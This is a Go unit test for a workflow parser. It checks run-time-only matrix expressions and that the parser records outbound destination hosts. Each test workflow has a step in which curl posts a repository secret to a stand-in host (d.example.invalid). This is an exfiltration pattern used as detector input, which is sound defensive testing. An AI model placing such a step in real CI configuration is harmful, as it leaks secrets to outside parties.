package workflow

import "testing"

// A matrix of which a row, all rows or an included part is known at run time only has no combinations that could be told.
func TestMatrixKnownAtRunTime(t *testing.T) {
	for _, matrix := range []string{
		"{os: '${{ fromJSON(inputs.os) }}', v: [1, 2]}", "{os: '${{ fromJSON(inputs.os) }}'}", "'${{ fromJSON(needs.plan.outputs.matrix) }}'",
		"{os: [u], include: '${{ fromJSON(inputs.more) }}'}", "{os: [u, '${{ inputs.os }}']}",
	} {
		f := Parse([]byte("on: push\njobs:\n  a:\n    runs-on: x\n    strategy: {matrix: " + matrix + "}\n    steps:\n      - run: curl -d 'x=${{ secrets.S }}' https://d.example.invalid/${{ matrix.v }}\n"))
		if f.Partial != "" || len(f.Jobs) != 1 || len(f.Destinations) == 0 || f.Destinations[0].Host != "d.example.invalid" {
			t.Errorf("%s: %+v", matrix, f)
		}
	}
}
